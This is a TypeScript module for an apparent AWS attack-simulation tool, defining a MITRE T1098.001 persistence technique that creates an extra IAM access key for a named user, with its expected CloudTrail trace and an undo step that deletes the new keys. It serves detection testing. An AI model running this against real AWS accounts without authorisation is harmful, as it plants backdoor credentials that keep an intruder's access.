import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ userName: z.string().min(1) });

/** A second key for somebody who has one already is seldom missed. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'persistence.access-key-created',
  title: 'Make a key for another user',
  purpose: 'When the stolen key is found, this one goes on, under a name above suspicion.',
  mitre: ['T1098.001'],
  awsThreatTechniques: ['T1098.001'],
  sources: [
    {
      title: 'Account Manipulation: Additional Cloud Credentials, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1098/001/',
    },
    {
      title: 'CreateAccessKey, AWS IAM API Reference',
      url: 'https://docs.aws.amazon.com/IAM/latest/APIReference/API_CreateAccessKey.html',
    },
    {
      title: 'Create an access key on an IAM user, Stratus Red Team',
      url: 'https://stratus-red-team.cloud/attack-techniques/AWS/aws.persistence.iam-create-backdoor-user-key/',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { user: true },
  needs: ['iam:CreateAccessKey'],
  leaves: [{ service: 'iam.amazonaws.com', name: 'CreateAccessKey', outcome: 'succeeds' }],
  repeatable: false,
  async detonate({ inputs: { userName }, aws, say }) {
    say(`Make a key for ${userName}`);
    await aws.iam().createAccessKey({ UserName: userName });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { userName: UserName }, aws }) {
      const keys = async () => {
        const { AccessKeyMetadata = [] } = await aws.iam().listAccessKeys({ UserName });
        return AccessKeyMetadata.map(({ AccessKeyId }) => AccessKeyId);
      };
      const before = await keys();
      return async () => {
        for (const AccessKeyId of await keys()) {
          if (before.includes(AccessKeyId)) continue;
          await aws.iam().deleteAccessKey({ UserName, AccessKeyId });
        }
      };
    },
  },
};
